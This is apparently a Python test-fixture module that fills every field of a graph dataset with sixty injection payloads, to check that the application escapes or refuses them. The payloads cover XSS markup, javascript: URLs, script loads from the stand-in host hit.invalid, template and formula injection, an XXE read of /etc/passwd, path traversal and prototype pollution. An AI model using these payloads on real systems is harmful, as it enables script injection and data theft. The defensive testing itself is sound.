"""Sixty texts that mean harm, and a dataset that holds each of them in every field that takes text.

Whatever runs sets window.__hit; whatever loads asks the host hit.invalid.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

from graph.formats.dataset_yaml import files
from graph.model import Actor, ActorKind, Claim, Dataset, Document, Event, Family, Relation, RelationKind, Text, Vocabulary

RUN = "window.__hit=1"
PAYLOADS = (
    # markup that runs
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title></style></textarea><script>{RUN}</script>",
    f"<!--<script>--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    "<ScRiPt src=//hit.invalid/a.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror=\"{RUN}\">",
    f"'><svg/onload='{RUN}'>",
    f"`><svg onload=`{RUN}`>",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
    f"' onpointerover='{RUN}' style='position:fixed;inset:0' x='",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationstart=\"{RUN}\">x</b>",
    # markup that loads or leads astray
    "<img src=//hit.invalid/i.png>",
    "<iframe src=//hit.invalid/f></iframe>",
    f"<iframe srcdoc=\"<script>parent.{RUN.replace('window.', '')}</script>\"></iframe>",
    "<object data=//hit.invalid/o></object><embed src=//hit.invalid/e>",
    "<link rel=stylesheet href=//hit.invalid/l.css>",
    "<base href=//hit.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=http://hit.invalid/m\">",
    "<form action=//hit.invalid/f><button>x</button></form>",
    "<style>@import '//hit.invalid/s.css'; * { background: url(//hit.invalid/b) }</style>",
    "<table background=//hit.invalid/t><td>x</table>",
    "<a href=//hit.invalid/a ping=//hit.invalid/p>x</a>",
    "<audio src=//hit.invalid/a.mp3 autoplay></audio><picture><source srcset=//hit.invalid/p.png><img></picture>",
    # SVG and MathML
    f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject></svg>",
    f"</text><script xlink:href='data:text/javascript,{RUN}'/>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{RUN} /><a id=x><text>x</text></a></svg>",
    "<svg><use href=//hit.invalid/u#x /><image href=//hit.invalid/i.svg /></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    # links
    f"javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"https://example.org/\"onclick=\"{RUN}",
    # Markdown, as Streamlit and GitHub read it
    "![x](http://hit.invalid/m.png)",
    "[x](http://hit.invalid/l)",
    f"[x](javascript:{RUN})",
    "<http://hit.invalid/auto>",
    "http://hit.invalid/bare www.hit.invalid/bare",
    ":red[x] :material/delete: :streamlit: $\\href{http://hit.invalid}{x}$ $\\includegraphics{//hit.invalid/t}$",
    "# Heading\n\n---\n\n| a | b |\n|---|---|\n* list\n> quote ~~gone~~ `code` **bold**",
    "[x]: http://hit.invalid/ref\n\n[x]",
    # templates, expressions, formulae
    "{{7*7}} {% import os %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} {source} %s %(x)s",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"datum.constructor.constructor('{RUN}')()",
    "event.view; warn('x'); {\"signal\": \"x\"} {\"expr\": \"1\"}",
    "=HYPERLINK(\"http://hit.invalid/\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # text that deceives machines or eyes
    "\u202egpj.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff",
    "&lt;script&gt; &x; &#60;img src=x onerror=" + RUN + "&#62; <!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "../../../../etc/passwd %2e%2e%2f..\\..\\windows CON.txt file\u2215name",
    "__proto__ constructor prototype toString hasOwnProperty",
    "W" * 900,
)
assert len(PAYLOADS) == 60 == len(set(PAYLOADS))


def line(payload: str) -> str:
    """As a record may hold it: on one line, without the invisible characters that are refused (write_refused holds those)."""
    return " ".join(re.sub("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]", "", payload).split())


def text(payload: str) -> Text:
    return Text(en=line(payload), ru=line(payload), ky=line(payload))


def dataset() -> Dataset:
    """Actor p-1 … p-60, each tied to the next in 2010, the tie claimed and denied; every text of every record is a payload."""
    vocabulary = Vocabulary(
        actor_kinds={f"kind_{n}": ActorKind(id=f"kind_{n}", label=text(PAYLOADS[n]), labels=text(PAYLOADS[-n]), shape="dot") for n in range(1, 6)},
        families={f"family_{n}": Family(id=f"family_{n}", label=text(PAYLOADS[n]), colour="#1e763e", colour_dark="#74ce96") for n in (5, 17, 40)},
        relation_kinds={
            f"tied_{n}": RelationKind(
                id=f"tied_{n}", label=text(PAYLOADS[n]), reading=Text(en=f"{{source}} <img src=x onerror={RUN}> {{target}}"),
                past=Text(en=f"{{source}} <img src=x onerror={RUN}> {{target}}"), family=f"family_{n}", sign=(n % 3) - 1)
            for n in (5, 17, 40)
        },
    )
    kinds = list(vocabulary.relation_kinds)
    actors, documents, relations, events = {}, {}, {}, {}
    for n, payload in enumerate(PAYLOADS, 1):
        said = line(payload)
        actors[f"p-{n}"] = Actor(id=f"p-{n}", kind=f"kind_{n % 5 + 1}", name=text(payload), aliases=(said,), note=text(payload), start="1950")
        documents[f"d-{n}"] = Document(
            id=f"d-{n}", title=said, author=said, publisher=said, date="2010", language=said[:20].strip(), standpoint=text(payload), licence=said,
            note=text(payload), url="https://example.org/" + said.translate({ord(each): "" for each in " <>\"\t\u200b"})[:300])
        claims = (
            Claim(document=f"d-{n}", by=said, quote=said, page=said, note=text(payload)),
            Claim(document=f"d-{n % 60 + 1}", by=f"p-{n % 60 + 1}", stance="denies", quote=said, page=said),
        )
        tie = Relation(source=f"p-{n}", target=f"p-{n % 60 + 1}", kind=kinds[n % 3], role=text(payload), start="2005", end="2012", claims=claims,
                       note=text(payload), id=f"p-{n}/../tie.{n}")
        relations[tie.id] = tie
        events[f"e-{n}"] = Event(id=f"e-{n}", name=text(payload), date="2010-06", actors=(f"p-{n}",), claims=claims[:1], note=text(payload))
    return Dataset(vocabulary=vocabulary, actors=actors, relations=relations, documents=documents, events=events)


def write(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files(dataset()).items():
        (folder / name).write_text(content, encoding="utf-8")
    return folder


def write_refused(folder: Path) -> Path:
    """The payloads where they are refused: as ids, kinds, dates, addresses, keys, colours; each becomes a Problem."""
    write(folder)
    with (folder / "actors.yaml").open("a", encoding="utf-8") as file:
        for n, payload in enumerate(PAYLOADS):
            said = json.dumps(" ".join(payload.split()), ensure_ascii=False)
            bad = (f"id: {said}", f"id: x-{n}\n  kind: {said}", f"id: x-{n}\n  start: {said}", f"id: x-{n}\n  wikidata: {said}", f"id: x-{n}\n  {said}: 1")[n % 5]
            file.write(f"- {bad}\n  name: {{en: X}}\n" + ("" if n % 5 == 1 else "  kind: kind_1\n"))
    with (folder / "documents.yaml").open("a", encoding="utf-8") as file:
        for n, payload in enumerate(PAYLOADS):
            said = json.dumps(" ".join(payload.split()), ensure_ascii=False)
            file.write(f"- id: y-{n}\n  title: X\n  url: {said}\n  date: {said}\n")
    with (folder / "relations.yaml").open("a", encoding="utf-8") as file:
        for n, payload in enumerate(PAYLOADS):
            said = json.dumps(" ".join(payload.split()), ensure_ascii=False)
            file.write(f"- source: {said}\n  target: p-1\n  kind: tied_5\n  date: 2010\n  claims: [{{document: {said}, stance: {said}}}]\n")
    return folder
